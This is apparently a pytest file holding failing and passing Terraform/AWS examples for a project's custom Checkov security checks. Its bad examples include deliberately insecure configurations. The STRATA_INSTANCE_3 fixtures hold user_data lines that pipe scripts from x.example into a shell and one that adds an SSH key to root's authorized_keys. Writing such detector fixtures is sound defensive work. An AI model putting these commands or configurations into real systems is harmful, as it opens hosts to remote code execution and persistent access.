"""A bad and a good example of every check of ours."""

import base64
import json
import tomllib
from typing import Any

import pytest
from checkov.common.models.enums import CheckResult
from checkov.terraform.checks.resource.registry import resource_registry

from modules.redeploy import definition as redeploy_definition
from policies.explanations import EXPLANATIONS
from policies.policy import Policy
from strata.gate.own_checks import OUTSIDE_CHECKS, backend_faults, value_faults
from strata.gate.report import CAUSES, causes
from strata.gate.resolve import differences, resolved
from strata.gate.scan import known_checks
from strata.gate.whole_environment import ENVIRONMENT_CHECKS
from strata.machine.folders import project

Json = dict[str, Any]


def containers(**values: object) -> Json:
    return {"container_definitions": json.dumps([{"name": "web", **values}])}


def statement(**values: object) -> str:
    return json.dumps({"Version": "2012-10-17", "Statement": {"Effect": "Allow", **values}})


CLUSTER = "arn:aws:ecs:eu-central-1:123456789012:cluster/${aws_ecs_cluster.a.name}"


def run(sent: str) -> Json:
    return {"target": {"arn": CLUSTER, "input": sent, "ecs_parameters": {"task_count": 1}}}


def overridden(**values: object) -> Json:
    return run(json.dumps({"containerOverrides": [{"name": "api", **values}]}))


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def rule(direction: str, **values: object) -> Json:
    return {"security_group_id": "sg", "type": direction, "protocol": "tcp", **values}


def acl(**values: object) -> Json:
    return {
        "network_acl_id": "${aws_network_acl.network_private_acl.id}",
        "rule_action": "allow", "protocol": "tcp", **values,
    }  # fmt: skip


ANYWHERE = "0.0.0.0/0"
WEB = {"security_group_id": "${aws_security_group.network_load_balancer_security_group.id}"}
PORTS = {"ip_protocol": "tcp", "from_port": 443, "to_port": 443}
DEPLOYED: Json = {"Cluster": "a", "Service": "b", "ForceNewDeployment": True}
DEPLOY: Json = {
    "Type": "Task", "Resource": "arn:aws:states:::aws-sdk:ecs:updateService",
    "Parameters": DEPLOYED, "End": True,
}  # fmt: skip


def steps(*states: Json) -> Json:
    """A state machine of these steps."""
    named = {f"step{number}": state for number, state in enumerate(states)}
    return {"definition": json.dumps({"StartAt": "step0", "States": named})}


BREAKER = {"enable": True, "rollback": True}
REDIRECT = {"type": "redirect", "redirect": {"protocol": "HTTPS", "status_code": "HTTP_301"}}
HOST = "token.actions.githubusercontent.com"
GITHUB = f"arn:aws:iam::123456789012:oidc-provider/{HOST}"
EVERYONE = [
    ("StringLike", "aws:PrincipalOrgID", "o-*"),
    ("StringLike", "aws:PrincipalOrgID", ["o-1a2b3c", "?*"]),
    ("StringLike", "aws:SourceAccount", "????????????"),
    ("StringLike", "aws:PrincipalAccount", "1*"),
    ("ArnLike", "aws:PrincipalArn", "arn:aws:iam::*:role/shop"),
    ("StringLike", "aws:PrincipalArn", "arn:aws:iam::*"),
    ("ArnLike", "aws:SourceArn", "arn:aws:*:*:*:*"),
    ("ArnLike", "aws:SourceArn", "arn:aws:s3:::*"),
    ("ForAllValues:StringEquals", "aws:PrincipalOrgID", "o-1a2b3c"),
    ("StringEquals", "aws:PrincipalOrgID", []),
]
"""Conditions that everyone meets: a wildcard in the part that names somebody, or no test at all."""
SOMEONE = [
    ("StringEquals", "aws:PrincipalOrgID", "o-1a2b3c"),
    ("ArnLike", "aws:PrincipalArn", "arn:aws:iam::123456789012:role/*"),
    ("ArnLike", "aws:SourceArn", "arn:aws:s3:::shop-logs"),
    ("ArnLike", "aws:SourceArn", "arn:aws:logs:*:123456789012:*"),
]
ROLE = "arn:aws:iam::123456789012:role/shop-batch"
CALLER = {"StringEquals": {"aws:SourceAccount": "123456789012"}}

EXAMPLES: dict[str, tuple[list[Json], list[Json]]] = {
    "STRATA_CONTAINER_1": (
        [{}, {"container_definitions": "${file(x)}"}, {"container_definitions": "[]"}],
        [containers()],
    ),
    "STRATA_CONTAINER_2": (
        [
            containers(privileged=True),
            containers(Privileged=True),
            containers(privileged="${data.aws_x.y.z}"),
            containers(linuxParameters={"capabilities": {"add": ["SYS_ADMIN"]}}),
            containers(linuxParameters={"capabilities": {"add": ["cap_sys_admin"]}}),
            containers(linuxParameters={"capabilities": {"add": ["NET_ADMIN"]}}),
            containers(linuxParameters={"capabilities": {"add": ["SYS_RAWIO"]}}),
        ],
        [
            containers(),
            containers(linuxParameters={"capabilities": {"add": ["CHOWN"]}}),
            containers(linuxParameters={"capabilities": {"drop": ["ALL"]}}),
        ],
    ),
    "STRATA_CONTAINER_3": (
        [containers(), containers(user="0"), containers(user="root:root"), containers(user="00")],
        [containers(user="1000"), containers(user="app:app")],
    ),
    "STRATA_CONTAINER_4": (
        [containers(), containers(readonlyRootFilesystem=None)],
        [containers(readonlyRootFilesystem=True)],
    ),
    "STRATA_CONTAINER_5": (
        [containers(), containers(logConfiguration={"logDriver": "none"})],
        [containers(logConfiguration={"logDriver": "awslogs"})],
    ),
    "STRATA_CONTAINER_6": (
        [
            containers(environment=[{"name": "API_TOKEN", "value": "x"}]),
            containers(environment=[{"name": "API_TOKEN", "value": "${aws_x.y.z}"}]),
            containers(environment=[{"name": "URL", "value": "mysql://a:b@c"}]),
            containers(environment=[{"name": "KEY", "value": "${aws_x.y.secret_string}"}]),
            containers(environment=[{"name": "KEY", "value": "sk_live_0$${aws_x.y.z}"}]),
            containers(environment=[
                {"name": "A", "value": '${data.aws_ssm_parameter.b["value"]}'}]),
        ],
        [
            containers(environment=[{"name": "DB_HOST", "value": "${aws_db_instance.a.address}"}]),
            containers(environment=[{"name": "APP_SECRET", "value": "arn:aws:secretsmanager:x"}]),
            containers(environment=[{"name": "KEY", "value": "$${aws_x.y.secret_string}"}]),
            containers(secrets=[{"name": "API_TOKEN", "valueFrom": "arn:aws:x"}]),
        ],
    ),
    "STRATA_CONTAINER_7": (
        [containers(image="nginx"), containers(image="a.b:5000/nginx:latest"), containers(),
         containers(image="docker.io/someone/shop:1.0.0"), containers(image="nginx:1.27"),
         containers(image="${aws_ecr_repository.a.repository_url}:latest")],
        [containers(image="${aws_ecr_repository.a.repository_url}:1.0.0"),
         containers(image="123456789012.dkr.ecr.eu-central-1.amazonaws.com/shop:1.0.0"),
         containers(image="docker.io/someone/shop@sha256:0")],
    ),
    "STRATA_CONTAINER_8": (
        [
            {**containers(), "network_mode": "host"},
            {**containers(), "pid_mode": "host"},
            {**containers(), "ipc_mode": "host"},
            {**containers(), "ipc_mode": "${aws_x.y.z}"},
            {**containers(), "volume": {"name": "a", "host_path": "/"}},
            {**containers(), "volume": [{"name": "a", "host_path": "/var/run/docker.sock"}]},
            {**containers(), "volume": {"name": "a", "docker_volume_configuration": [
                {"driver": "local", "driver_opts": {"type": "none", "device": "/", "o": "bind"}}]}},
            containers(linuxParameters={"devices": [{"hostPath": "/dev/xvda"}]}),
            containers(LinuxParameters={"Devices": [{"hostPath": "/dev/kmsg"}]}),
            containers(dockerSecurityOptions=["apparmor:unconfined"]),
            containers(dockerSecurityOptions=["no-new-privileges", "seccomp=unconfined"]),
            containers(dockerSecurityOptions=["label:disable"]),
        ],
        [
            {**containers(), "network_mode": "bridge", "pid_mode": "task"},
            {**containers(), "volume": {"name": "scratch"}},
            {**containers(), "volume": {"name": "a", "docker_volume_configuration": [
                {"driver": "local", "scope": "task"}]}},
            containers(dockerSecurityOptions=["no-new-privileges"],
                       mountPoints=[{"sourceVolume": "scratch", "containerPath": "/scratch"}]),
        ],
    ),
    "STRATA_CONTAINER_9": (
        [
            containers(environmentFiles=[{"type": "s3", "value": "arn:aws:s3:::b/x.env"}]),
            containers(extraHosts=[{"hostname": "db", "ipAddress": "203.0.113.1"}]),
            containers(systemControls=[{"namespace": "net.ipv4.ip_forward", "value": "1"}]),
            containers(dnsServers=["203.0.113.53"]),
            containers(firelensConfiguration={"type": "fluentbit"}),
            containers(linuxParameters={"somethingNew": True}),
            {**containers(environmentFiles=[{"type": "s3", "value": "arn:aws:s3:::b/y.env"}]),
             "//": {"environment_files": ["arn:aws:s3:::b/x.env"]}},
        ],
        [
            {**containers(environmentFiles=[{"type": "s3", "value": "arn:aws:s3:::b/x.env"}]),
             "//": {"environment_files": [["arn:aws:s3:::b/x.env"]]}},
            containers(ulimits=[{"name": "nofile", "softLimit": 1, "hardLimit": 2}], stopTimeout=9),
            containers(extraHosts=[], systemControls=None, dnsServers=[]),
        ],
    ),
    "STRATA_CONTAINER_10": (
        [containers(links=["other"]), containers(Links=["shop:mysql.example.com"]),
         containers(name="web", links=["web:db"]), containers(links=[{"name": "web"}])],
        [containers(links=[]), containers(links=None), containers(name="web", links=["web"])],
    ),
    "STRATA_ENDPOINT_1": (
        [{}, {"service_name": "com.amazonaws.vpce.eu-central-1.vpce-svc-0123456789abcdef0"},
         {"service_name": "${data.aws_vpc_endpoint_service.partner.service_name}"},
         {"service_name": "com.amazonaws.vpce-svc-0123456789abcdef0"}],
        [{"service_name": "com.amazonaws.eu-central-1.s3"},
         {"service_name": ["com.amazonaws.us-east-1.ecr.api"]},
         {"service_name": "com.amazonaws.${data.aws_region.here.name}.dynamodb"}],
    ),
    "STRATA_REDIS_1": ([{}, {"at_rest_encryption_enabled": "false"}],
                       [{"at_rest_encryption_enabled": "true"}, {"engine": "memcached"}]),
    "STRATA_REDIS_2": (
        [{}, {"transit_encryption_enabled": True, "transit_encryption_mode": "preferred"}],
        [{"transit_encryption_enabled": [True]}],
    ),
    "STRATA_REDIS_3": ([{}, {"lifecycle": {"ignore_changes": ["tags"]}}],
                       [{"lifecycle": [{"ignore_changes": ["auth_token"]}]}]),
    "STRATA_REDIS_4": (
        [{}, {"no_password_required": True, "passwords": ["x"]},
         {"authentication_mode": {"type": "no-password-required"}},
         {"passwords": ["x"], "no_password_required": "${aws_x.y.z}"}],
        [{"authentication_mode": [{"type": "iam"}]}, {"passwords": ["x"]}],
    ),
    "STRATA_LISTENER_1": (
        [
            {"protocol": "HTTP", "default_action": {"type": "forward"}},
            {"default_action": [{"type": "redirect", "redirect": {"port": "8080"}}]},
            {"default_action": [REDIRECT, {"type": "forward"}]},
            {"dynamic": {"default_action": {"content": {"type": "forward"}}}},
            {"listener_arn": "${aws_lb_listener.edge_http_listener.arn}",
             "action": [{"type": "forward"}]},
        ],
        [
            {"protocol": "HTTP", "default_action": REDIRECT},
            {"protocol": "HTTPS", "default_action": {"type": "forward"}},
            {"listener_arn": "${aws_lb_listener.edge_https_listener.arn}",
             "action": [{"type": "forward"}]},
        ],
    ),
    "STRATA_LISTENER_2": (
        [{"protocol": "HTTPS"}, {"protocol": "TLS", "ssl_policy": "ELBSecurityPolicy-2016-08"}],
        [{"protocol": "HTTPS", "ssl_policy": "ELBSecurityPolicy-TLS13-1-2-Res-2021-06"}],
    ),
    "STRATA_DB_1": ([{"publicly_accessible": "true"}, {"publicly_accessible": "${aws_x.y.z}"}],
                    [{}, {"publicly_accessible": False}]),
    "STRATA_DB_2": ([{}, {"storage_encrypted": 0}], [{"storage_encrypted": True}]),
    "STRATA_DB_3": (
        [
            {"family": "mysql8.4"},
            {"family": "mysql8.4", "parameter": {"name": "require_secure_transport", "value": 0}},
            {"engine": "mysql"},
            {"engine": "mysql", "parameter_group_name": "default.mysql8.4"},
        ],
        [
            {"family": "mysql8.4",
             "parameter": [{"name": "require_secure_transport", "value": "ON"}]},
            {"engine": "mysql", "parameter_group_name": "shop"},
        ],
    ),
    "STRATA_DB_4": ([{"password": "x"}, {"master_password": "${aws_x.y.z}"}],
                    [{"manage_master_user_password": True}]),
    "STRATA_DB_5": (
        [
            {"parameter": {"name": "tls_version", "value": "TLSv1.1,TLSv1.2"}},
            {"parameter": [{"name": "tls_version", "value": "TLSv1"}]},
            {"parameter": {"name": "tls_version", "value": "${aws_x.y.z}"}},
            {"parameter": {"name": "local_infile", "value": "1"}},
            {"parameter": [{"name": "Local_Infile", "value": "ON"}]},
        ],
        [
            {"parameter": {"name": "tls_version", "value": "TLSv1.2,TLSv1.3"}},
            {"parameter": {"name": "local_infile", "value": 0}},
            {"parameter": {"name": "general_log", "value": 1}},
            {},
        ],
    ),
    "STRATA_DB_6": (
        [{"parameter_group_name": "shop"}, {"parameter_group_name": "${aws_x.y.z}"}],
        [{"parameter_group_name": "${aws_db_parameter_group.a.name}"}, {}],
    ),
    "STRATA_SECRET_1": (
        [{"secret_string": "x"}, {"type": "SecureString", "value": "x"}, {"auth_token": "x"},
         {"passwords": ["x"]}],
        [{"secret_string_wo": "${ephemeral.a.b.c}"}, {"type": "String", "value": "eu"}],
    ),
    "STRATA_INSTANCE_1": (
        [{}, {"metadata_options": {"http_tokens": "optional"}}],
        [{"metadata_options": [{"http_tokens": "required"}]}],
    ),
    "STRATA_INSTANCE_2": (
        [{}, {"block_device_mappings": [{"ebs": {"encrypted": None}}]},
         {"root_block_device": {"encrypted": True}, "ebs_block_device": {"encrypted": False}}],
        [{"block_device_mappings": {"ebs": [{"encrypted": "true"}]}}],
    ),
    "STRATA_INSTANCE_3": (
        [
            {"user_data": "${base64encode(\"#!/bin/sh\\ncurl -s http://x.example/a | sh\")}"},
            {"user_data": b64("#!/bin/sh\nwget -O- https://x.example/a | bash\n")},
            {"user_data_base64": b64("aws s3 cp s3://bucket/a.sh - | sh")},
            {"user_data": "#!/bin/sh\necho ssh-rsa AAAA >> /root/.ssh/authorized_keys"},
            {"user_data": "${base64encode(aws_x.y.z)}"},
            {"user_data": "${data.aws_x.y.rendered}"},
        ],
        [{}, {"user_data": b64("echo ECS_CLUSTER=shop >> /etc/ecs/ecs.config")},
         {"user_data": "${base64encode(\"#!/bin/sh\\necho ECS_CLUSTER=shop\")}"}],
    ),
    "STRATA_OPEN_1": (
        [
            rule("ingress", cidr_blocks=[ANYWHERE], from_port=22, to_port=22),
            rule("ingress", ipv6_cidr_blocks=["2000::/3"]),
            rule("ingress", prefix_list_ids=["pl-1"]),
            rule("ingress", cidr_blocks=["${aws_eip.a.public_ip}"]),
            {**WEB, "cidr_ipv4": ANYWHERE, "ip_protocol": "-1"},
            {**WEB, "cidr_ipv4": ANYWHERE, "ip_protocol": "tcp", "from_port": 80, "to_port": 443},
            {"ingress": [{"cidr_blocks": [ANYWHERE], "prefix_list_ids": None}]},
        ],
        [
            {**WEB, **PORTS, "cidr_ipv4": ANYWHERE},
            rule("ingress", cidr_blocks=["10.0.0.0/8"]),
            rule("ingress", cidr_blocks=["${aws_vpc.network_vpc.cidr_block}"]),
            rule("ingress", cidr_blocks=["${aws_eip.a.public_ip}/32"]),
            rule("ingress", ipv6_cidr_blocks=["fd00::/8"]),
            rule("egress", cidr_blocks=[ANYWHERE]),
            {"ingress": []},
        ],
    ),
    "STRATA_OPEN_2": (
        [
            acl(cidr_block=ANYWHERE, from_port=3306, to_port=3306),
            acl(cidr_block=ANYWHERE, from_port=443, to_port=443),
            acl(cidr_block="10.0.0.0/16", from_port=0, to_port=65535),
            acl(cidr_block="10.0.0.0/16", from_port=22, to_port="22"),
            acl(cidr_block="10.0.0.0/16", protocol="-1"),
            acl(ipv6_cidr_block="::/0", from_port=3000, to_port=4000),
            {"ingress": {"action": "allow", "protocol": -1, "cidr_block": "10.0.0.0/16"}},
        ],
        [
            acl(cidr_block="10.0.0.0/16", from_port=3306, to_port=3306),
            acl(cidr_block=ANYWHERE, from_port=1024, to_port=65535),
            acl(cidr_block=ANYWHERE, protocol="-1", rule_action="deny"),
            acl(cidr_block=ANYWHERE, protocol="-1", egress="true"),
            {"network_acl_id": "public", "rule_action": "allow", "protocol": 6,
             "cidr_block": ANYWHERE, "from_port": 80, "to_port": 80},
        ],
    ),
    "STRATA_OPEN_3": (
        [
            rule("egress", cidr_blocks=[ANYWHERE], from_port=0, to_port=65535),
            {"egress": {"protocol": "-1", "ipv6_cidr_blocks": ["::/0"]}},
        ],
        [{"security_group_id": "sg", "cidr_ipv4": ANYWHERE, **PORTS}, {"egress": None}],
    ),
    "STRATA_IAM_1": (
        [
            {"policy": statement(Action="s3:Get*", Resource="arn:aws:s3:::b/k")},
            {"policy": statement(NotAction="s3:GetObject", Resource="arn:aws:s3:::b/k")},
            {"policy": "${data.aws_iam_policy_document.a.json}"},
            {"inline_policy": {"policy": statement(Action=["*"], Resource="arn:aws:s3:::b/k")}},
            {"policy_arn": "arn:aws:iam::aws:policy/AdministratorAccess"},
        ],
        [
            {"policy": statement(Action="s3:GetObject", Resource="arn:aws:s3:::b/k")},
            {"policy": statement(Effect="Deny", Action="*", Resource="*")},
            {"policy_arn": "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"},
        ],
    ),
    "STRATA_IAM_2": (
        [
            {"policy": statement(Action="s3:GetObject", Resource="*")},
            {"policy": statement(Action=["xray:PutTraceSegments", "s3:GetObject"], Resource="*")},
            {"policy": statement(Action="xray:NoSuchAction", Resource="*")},
            {"policy": statement(Action="s3:GetObject", Resource=["arn:aws:s3:::*"])},
            {"policy": statement(Action="secretsmanager:GetSecretValue",
                                 Resource="arn:aws:secretsmanager:eu-central-1:1:secret:*")},
            {"policy": statement(Action="s3:GetObject", NotResource="arn:aws:s3:::b")},
            {"policy": statement(Action="s3:GetObject", Resource="arn:*")},
            {"policy": statement(Action="s3:GetObject", Resource="arn:aws:*:*:*:x")},
            {"policy": statement(Action="s3:GetObject", Resource="arn:aws:s3:::?*/*")},
            {"policy": statement(Action="s3:GetObject", Resource="arn:aws:s3:::a*")},
            {"policy": statement(Action="secretsmanager:GetSecretValue",
                                 Resource="arn:aws:secretsmanager:*:*:secret:?*")},
            {"policy": statement(Action="secretsmanager:GetSecretValue",
                                 Resource="arn:aws:secretsmanager:*:1:secret:*prod*")},
            {"policy": statement(Action="ssm:GetParameter",
                                 Resource="arn:aws:ssm:eu-central-1:1:parameter/*")},
        ],
        [
            {"policy": statement(Action="ecr:GetAuthorizationToken", Resource="*")},
            {"policy": statement(Action=["xray:PutTraceSegments", "CloudWatch:putMetricData"],
                                 Resource="*")},
            {"policy": statement(Action="logs:PutLogEvents",
                                 Resource="arn:aws:logs:eu-central-1:1:log-group:web:*")},
            {"policy": statement(Action="s3:GetObject", Resource="arn:aws:s3:::b/*")},
            {"policy": statement(Action="s3:GetObject", Resource="arn:aws:s3:::shop-*/*")},
            {"policy": statement(Action="secretsmanager:GetSecretValue",
                                 Resource="arn:aws:secretsmanager:*:1:secret:shop/*")},
        ],
    ),
    "STRATA_IAM_8": (
        [
            {"policy": statement(Action="iam:PassRole", Resource=ROLE)},
            {"policy": statement(Action="IAM:passrole", Resource="*",
                                 Condition={"StringEquals": {"iam:PassedToService": "x"}})},
            {"policy": statement(Action="iam:PassRole", Resource=ROLE,
                                 Condition={"StringEquals": {"iam:PassedToService": []}})},
            {"policy": statement(Action=["s3:GetObject", "iam:AttachRolePolicy"], Resource=ROLE)},
            {"policy": statement(Action="iam:*", Resource=ROLE)},
            {"inline_policy": {"policy": statement(Action="iam:CreateUser", Resource=ROLE)}},
        ],
        [
            {"policy": statement(
                Action="iam:PassRole", Resource=ROLE,
                Condition={"StringEquals": {"iam:PassedToService": "ecs-tasks.amazonaws.com"}})},
            {"policy": statement(Action=["iam:GetRole", "iam:ListRoles"], Resource=ROLE)},
            {"policy": statement(Effect="Deny", Action="iam:*", Resource="*")},
            {"policy": statement(Action="sts:AssumeRole", Resource=ROLE)},
        ],
    ),
    "STRATA_IAM_3": (
        [
            {"assume_role_policy": statement(Action="sts:AssumeRole", Principal="*")},
            {"assume_role_policy": statement(Action="sts:AssumeRole", Principal={"AWS": ["*"]})},
            {"assume_role_policy": statement(Principal={"AWS": "*"},
                                             Condition={"Bool": {"aws:SecureTransport": "true"}})},
            {"assume_role_policy": statement(NotPrincipal={"AWS": "arn:aws:iam::1:root"})},
            {},
            *({"assume_role_policy": statement(Principal="*", Condition={operator: {key: one}})}
              for operator, key, one in EVERYONE),
        ],
        [
            {"assume_role_policy": statement(Principal={"Service": "ec2.amazonaws.com"})},
            {"assume_role_policy": statement(Principal={"AWS": "*"}, Condition=CALLER)},
            *({"assume_role_policy": statement(Principal="*", Condition={operator: {key: one}})}
              for operator, key, one in SOMEONE),
        ],
    ),
    "STRATA_IAM_5": (
        [
            {"assume_role_policy": statement(Principal={"Federated": GITHUB}, **more)}
            for more in (
                {},
                {"Condition": {"StringEquals": {f"{HOST}:aud": "sts.amazonaws.com"}}},
                {"Condition": {"StringLike": {f"{HOST}:sub": "*"}}},
                {"Condition": {"StringLike": {f"{HOST}:sub": "repo:*"}}},
                {"Condition": {"StringLike": {f"{HOST}:sub": "repo:sho*/api:*"}}},
                {"Condition": {"StringLike": {f"{HOST}:sub": ["repo:shop/api:*", "*"]}}},
                {"Condition": {"StringNotEquals": {f"{HOST}:sub": "repo:shop/api"}}},
                {"Condition": {"StringEqualsIfExists": {f"{HOST}:sub": "repo:shop/api"}}},
            )
        ],
        [
            {"assume_role_policy": statement(
                Principal={"Federated": GITHUB},
                Condition={"StringLike": {f"{HOST}:sub": "repo:shop/api:*"}})},
            {"assume_role_policy": statement(
                Principal={"Federated": "cognito-identity.amazonaws.com"},
                Condition={"StringEquals": {"cognito-identity.amazonaws.com:aud": "eu:1"}})},
            {"assume_role_policy": statement(Principal={"Service": "ec2.amazonaws.com"})},
        ],
    ),
    "STRATA_IAM_6": (
        [
            {"policy_arn": "arn:aws:iam::aws:policy/SecretsManagerReadWrite"},
            {"policy_arn": "arn:aws:iam::aws:policy/job-function/SystemAdministrator"},
            {"policy_arn": "arn:aws:iam::aws:policy/ReadOnlyAccess"},
            {"policy_arn": "arn:aws:iam::123456789012:policy/shadow"},
            {"policy_arn": "${data.aws_x.y.arn}"},
            {"managed_policy_arns": ["arn:aws:iam::aws:policy/IAMFullAccess"]},
        ],
        [
            {"policy_arn": "${aws_iam_policy.a.arn}"},
            {"policy_arn": "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"},
            {},
        ],
    ),
    "STRATA_IAM_4": (
        [{"policy": statement(Principal={"AWS": "*"}, Action="s3:GetObject")},
         {"access_policies": statement(Principal="*", Action="es:ESHttpGet")},
         {"policy_document": statement(Principal="*", Action="logs:PutLogEvents")},
         {"policy": "${data.aws_iam_policy_document.a.json}"}],
        [{"policy": statement(Principal="*", Action="s3:GetObject", Condition=CALLER)}, {},
         {"policy": None}],
    ),
    "STRATA_FLOW_1": ([{}, {"traffic_type": "ACCEPT"}, {"traffic_type": "REJECT"}],
                      [{"traffic_type": "ALL"}]),
    "STRATA_ECR_1": ([{}, {"image_tag_mutability": "MUTABLE"}],
                     [{"image_tag_mutability": "IMMUTABLE"}]),
    "STRATA_SERVICE_1": (
        [{}, {"deployment_circuit_breaker": {"enable": True, "rollback": False}}],
        [{"deployment_circuit_breaker": [BREAKER]}],
    ),
    "STRATA_STEPS_1": (
        [{}, {"definition": "no JSON"}, {"definition": "[]"}, steps(), steps({"Type": "Wait"}),
         steps({**DEPLOY, "Resource": "arn:aws:states:::aws-sdk:ecs:deleteService"}),
         steps({**DEPLOY, "Parameters": {"Cluster": "a", "Service": "b", "DesiredCount": 0}}),
         steps({**DEPLOY, "Parameters": {**DEPLOYED, "ForceNewDeployment": False}}),
         steps({**DEPLOY, "Parameters": {**DEPLOYED, "TaskDefinition": "b:1"}}),
         steps({**DEPLOY, "Catch": [{"ErrorEquals": ["States.ALL"], "Next": "b"}]}),
         steps(DEPLOY, {"Type": "Pass", "End": True})],
        [steps(DEPLOY), steps(DEPLOY, {**DEPLOY, "ResultPath": None}),
         {"definition": redeploy_definition("shop", "shop", {})},
         {"definition": redeploy_definition("shop", "shop", {"mail": "shop-mail"})}],
    ),
    "STRATA_STEPS_2": (
        [{"target": {"arn": "arn:aws:scheduler:::aws-sdk:ecs:deleteCluster"}}, {"target": [{}]},
         {"target": {"arn": "arn:aws:lambda:eu-central-1:123456789012:function:theirs"}},
         {"target": {"arn": CLUSTER.replace("ecs", "sqs")}},
         run("no JSON"), run("[]"), run(json.dumps({"taskRoleArn": "arn:aws:iam::1:role/admin"})),
         overridden(environment=[{"name": "NODE_OPTIONS", "value": "--inspect"}]),
         overridden(environmentFiles=[{"type": "s3", "value": "arn:aws:s3:::theirs/x.env"}]),
         run(json.dumps({"containerOverrides": [], "executionRoleArn": "a"}))],
        [overridden(command=["a"]), overridden(command=["a"], cpu=2, memory=6),
         run(json.dumps({"containerOverrides": [], "cpu": "512", "memory": "256"})),
         {"target": {"arn": CLUSTER, "ecs_parameters": {"task_count": 1}}},
         {"target": {"arn": "${aws_lambda_function.own_report.arn}", "input": "{}"}},
         {"target": [{"arn": "${aws_ecs_cluster.a.arn}"}]}],
    ),
    "STRATA_SERVICE_2": (
        [{"enable_execute_command": True}, {"enable_execute_command": "true"},
         {"enable_execute_command": "${var.exec}"}],
        [{}, {"enable_execute_command": False}],
    ),
    "STRATA_CLUSTER_1": (
        [{"auto_scaling_group_provider": [{"managed_termination_protection": "ENABLED"}]}],
        [{"auto_scaling_group_provider": {}}],
    ),
}  # fmt: skip

BUCKET = {"bucket": "state", "encrypt": True}
SAME = {"resource": {"aws_vpc": {"a": {"cidr_block": "10.0.0.0/16", "tags": None}}}}


def outside(stack: Json) -> set[str]:
    """The checks outside of resources that a layer does not meet."""
    different = differences(resolved(stack), resolved(SAME)) if "resource" in stack else []
    found = {check for check, _ in value_faults(stack)} | {"STRATA_LAYER_1" for _ in different}
    return found | (set(backend_faults(stack)) if "terraform" in stack else set())


OUTSIDE: dict[str, tuple[list[Json], list[Json]]] = {
    "STRATA_LAYER_1": (
        [{"resource": {"aws_vpc": {"a": {"cidr_block": "10.0.0.0/8"}}}},
         {"resource": {"aws_vpc": {"b": {"cidr_block": "10.0.0.0/16"}}}}],
        [{"resource": [{"aws_vpc": [{"a": [{"cidr_block": "10.0.0.0/16"}]}]}]}],
    ),
    "STRATA_STATE_1": (
        [
            {"terraform": {"backend": {"s3": BUCKET}}},
            {"terraform": {"backend": {"s3": {**BUCKET, "encrypt": None, "use_lockfile": True}}}},
            {"terraform": {"backend": {"local": {}}}},
            {"terraform": {}},
        ],
        [
            {"terraform": [{"backend": [{"s3": [{**BUCKET, "use_lockfile": "true"}]}]}]},
            {"terraform": {"backend": {"s3": {**BUCKET, "dynamodb_table": "locks"}}}},
        ],
    ),
    "STRATA_SECRET_2": (
        [
            {"variable": {"db_password": {"default": "x"}}},
            {"variable": [{"token": [{"default": "x"}]}]},
            {"variable": {"settings": {"default": {"api_key": "x"}}}},
            {"locals": {"api_key": "AKIAABCDEFGHIJKLMNOP"}},
        ],
        [{"variable": {"db_password": {"type": "string"}, "region": {"default": "eu-central-1"}}}],
    ),
    "STRATA_SECRET_3": (
        [
            {"output": {"db_password": {"value": "x"}}},
            {"output": {"a": {"value": {"b": "${aws_secretsmanager_secret_version.c.secret_string}"
                                        }}}},
            {"output": {"a": {"value": "${jsonencode(aws_db_instance.b.password)}"}}},
            {"output": {"token": {"value": "${local.a}"}}, "locals": {"a": "x"}},
        ],
        [{"output": {"auth_token_secret_arn": {"value": "${aws_secretsmanager_secret.a.arn}"}}}],
    ),
}  # fmt: skip


@pytest.fixture(scope="module")
def ours() -> dict[str, Policy]:
    """Our checks by id."""
    known_checks()
    return {c.id: c for c in resource_registry.get_all_registered_checks() if isinstance(c, Policy)}


def test_every_check_has_examples_and_an_explanation(ours: dict[str, Policy]) -> None:
    assert set(EXAMPLES) == set(ours)
    assert set(OUTSIDE) == set(OUTSIDE_CHECKS)
    assert all(bad and good for bad, good in (EXAMPLES | OUTSIDE).values())
    assert set(EXAMPLES) | set(OUTSIDE) | set(ENVIRONMENT_CHECKS) == set(EXPLANATIONS)
    named = {check for cause in causes() for check in cause.checks}
    assert named <= known_checks()


def test_a_check_of_ours_states_its_severity_beside_its_code_alone(ours: dict[str, Policy]) -> None:
    entries = tomllib.loads((project() / CAUSES).read_text())["cause"]
    for entry in entries:
        own = [check for check in entry["checks"] if check.startswith("STRATA_")]
        if own:
            assert entry["key"], "it names the setting; the rest stands beside the check"
            assert not {"severity", "protects", "more"} & set(entry)
    (cause,) = [cause for cause in causes() if cause.key == "edge.tls_policy"]
    said = EXPLANATIONS["STRATA_LISTENER_2"]
    assert (cause.severity, cause.protects, cause.more) == (said.severity, said.protects, said.more)


def test_bad_examples_fail_and_good_ones_pass(ours: dict[str, Policy]) -> None:
    for check, (bad, good) in EXAMPLES.items():
        judge = ours[check].scan_resource_conf
        assert [judge(one) for one in bad] == [CheckResult.FAILED] * len(bad), check
        assert [judge(one) for one in good] == [CheckResult.PASSED] * len(good), check


def test_bad_examples_outside_of_resources_fail_and_good_ones_pass() -> None:
    for check, (bad, good) in OUTSIDE.items():
        assert [check in outside(one) for one in bad] == [True] * len(bad), check
        assert [check in outside(one) for one in good] == [False] * len(good), check
